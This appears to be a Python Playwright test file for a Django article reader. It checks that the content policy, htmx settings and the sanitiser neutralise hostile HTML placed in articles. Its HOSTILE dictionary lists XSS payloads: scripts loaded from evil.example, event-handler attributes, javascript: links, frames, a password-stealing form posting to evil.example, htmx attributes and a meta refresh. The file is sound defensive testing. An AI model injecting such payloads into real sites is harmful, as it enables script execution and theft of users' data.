"""Hostile HTML behind the sanitiser: written straight into the blocks, to see what the other walls stop.

The sanitiser must never let any of this through (tests/reader/extraction sees to it). Here it has failed, and only the
Content-Security-Policy, `hx-disable` around the article and htmx's settings are left.
"""

from __future__ import annotations

import pytest
from django.urls import reverse
from playwright.sync_api import expect

from reader.extraction.model import Block, Kind
from reader.importers import pasted
from reader.models import Article, Project
from tests.builders import an_article, paragraph
from tests.e2e.desk import highlight, open_article, ready

pytestmark = pytest.mark.browser

EVIL = "https://evil.example"

HOSTILE = {
    "inline script": "<script>window.pwned = 'inline'</script>",
    "foreign script": f'<script src="{EVIL}/pwn.js"></script>',
    "module script": f'<script type="module">import "{EVIL}/pwn.js"; window.pwned = 1</script>',
    "handler attributes": '<img src="/nowhere.png" onerror="window.pwned = 1"><b onpointerenter="window.pwned = 1" '
    'onclick="window.pwned = 1" tabindex="0" autofocus onfocus="window.pwned = 1">handler</b>',
    "SVG": '<svg onload="window.pwned = 1"><script>window.pwned = 1</script>'
    '<animate onbegin="window.pwned = 1" /></svg>',
    "javascript: link": '<a href="javascript:window.pwned = 1" id="trap">trap</a>',
    "frames": f'<iframe src="{EVIL}/frame"></iframe><iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>',
    "objects": f'<object data="{EVIL}/object"></object><embed src="{EVIL}/embed">',
    "media": f'<img src="{EVIL}/pixel.gif"><video src="{EVIL}/v.mp4" autoplay></video>'
    f'<audio src="{EVIL}/a.mp3" autoplay></audio>',
    "styles": f'<style>body {{ background: url("{EVIL}/style.gif"); display: none }}</style>'
    f'<link rel="stylesheet" href="{EVIL}/style.css">'
    f'<span style="position: fixed; inset: 0; background: url({EVIL}/attribute.gif)">style</span>',
    "base": f'<base href="{EVIL}/">',
    "form": f'<form action="{EVIL}/form" id="stealer"><input name="password" value="x"><button>Send</button></form>',
    "htmx attributes": '<b hx-get="/projects/?htmx" hx-trigger="load">load</b><b hx-post="/projects/?htmx" '
    'hx-trigger="click" hx-swap="none">click</b><b data-hx-get="/projects/?htmx" data-hx-trigger="load">data</b>'
    '<b hx-on:click="window.pwned = 1" hx-on--load="window.pwned = 1">on</b>',
    "htmx out of band": '<b id="highlights-title" hx-swap-oob="true">'
    '<i hx-get="/projects/?htmx" hx-trigger="load">out of band</i></b>',
}


@pytest.fixture
def watched(signed_in_page, owner):
    """A page that must not show a dialog or ask anything in htmx's name that its own script does not."""
    page = signed_in_page(owner)
    page.dialogs, page.asked = [], []
    page.on("dialog", lambda dialog: (page.dialogs.append(dialog.message), dialog.dismiss()))
    page.on("request", lambda request: page.asked.append(request.url))
    return page


def hostile_article(project: Project, html: str) -> Article:
    hostile = Block(Kind.PARAGRAPH, f"Read this: {html}", "Read this: ")
    return an_article(project, [paragraph("Before it all."), hostile, paragraph("After it all.")])


def assert_harmless(page, foreign) -> None:
    assert page.evaluate("window.pwned") is None
    assert page.dialogs == []
    assert foreign == []
    assert [url for url in page.asked if "?htmx" in url] == []
    assert "After it all." in page.evaluate("document.body.innerText")


@pytest.mark.parametrize("name", HOSTILE)
def test_what_gets_past_the_sanitiser_is_stopped(watched, live_server, project, foreign, name):
    page = watched
    article = hostile_article(project, HOSTILE[name])
    open_article(page, live_server, article)
    ready(page)
    assert_harmless(page, foreign)

    # A new highlight swaps the block, by htmx, which would run scripts and follow attributes in what it inserts.
    made = highlight(page, "Read this")
    expect(page.locator(f"#entry-{made.pk}")).to_be_visible()
    assert_harmless(page, foreign)
    assert page.url.startswith(live_server.url)
    page.errors.clear()  # what the policy refused


def test_what_is_clicked_in_a_hostile_article_goes_nowhere(watched, live_server, project, foreign):
    page = watched
    html = "".join(HOSTILE[name] for name in ("javascript: link", "form", "htmx attributes", "handler attributes"))
    open_article(page, live_server, hostile_article(project, html))
    ready(page)
    page.locator("#trap").click()
    page.get_by_text("handler").click()
    for words in ("load", "click", "data", "on"):
        page.locator("text-selection").get_by_text(words, exact=True).click()
    page.locator("#stealer").evaluate("form => form.requestSubmit()")
    assert_harmless(page, foreign)
    assert page.url.startswith(live_server.url)
    page.errors.clear()


def test_a_hostile_form_cannot_change_anything_here(watched, live_server, project, owner):
    removal = reverse("project_removal", args=[project.pk])
    article = hostile_article(project, f'<form method="post" action="{removal}"><button>Go</button></form>')
    open_article(watched, live_server, article)
    watched.get_by_role("button", name="Go", exact=True).click()
    expect(watched.get_by_role("heading", level=1)).to_have_text("This form is too old")
    assert Project.objects.filter(pk=project.pk).exists()
    watched.errors.clear()


# No policy stops this one: the sanitiser alone does.
REFRESH = f'<meta http-equiv="refresh" content="0; url={EVIL}/refresh">'


@pytest.fixture
def imported(project, owner):
    """A page that holds all of it, taken in as every page is."""
    prose = (
        "The ministry said on Tuesday that at least twelve people had died in the fire at the harbour of Port Averin. "
    )
    body = "".join(f"<p>{prose}{name}: {html}{REFRESH}</p>" for name, html in HOSTILE.items())
    source = pasted(
        f"<!doctype html><title>Harbour fire</title><article><h1>Fire</h1>{body}<p>After it all.</p></article>"
    )
    article, _ = Article.objects.import_from(source, project=project, by=owner)
    article.refresh_from_db()
    assert article.is_ready
    return article


def test_a_hostile_page_reads_as_any_other_once_it_is_imported(watched, live_server, imported, foreign):
    page = watched
    open_article(page, live_server, imported, "?cut")
    ready(page)
    assert_harmless(page, foreign)
    assert page.url.startswith(live_server.url)
    article = page.locator("text-selection")
    foreign_ones = "script, style, iframe, object, embed, form, input:not([form=cutting]), meta, base, link, svg"
    expect(article.locator(foreign_ones)).to_have_count(0)
    names = article.evaluate(
        "all => [...new Set([...all.querySelectorAll('*')].flatMap((each) => each.getAttributeNames()))]"
    )
    assert {name for name in names if name.startswith(("on", "hx-", "data-hx-", "style"))} == set()


def test_a_hostile_original_is_a_download_and_never_a_page(watched, live_server, imported):
    watched.goto(live_server.url)
    with watched.expect_download() as download:
        watched.evaluate("address => { location.href = address; }", reverse("original", args=[imported.pk]))
    assert download.value.path().read_bytes() == imported.original.content
    assert watched.url.startswith(f"{live_server.url}/projects/")
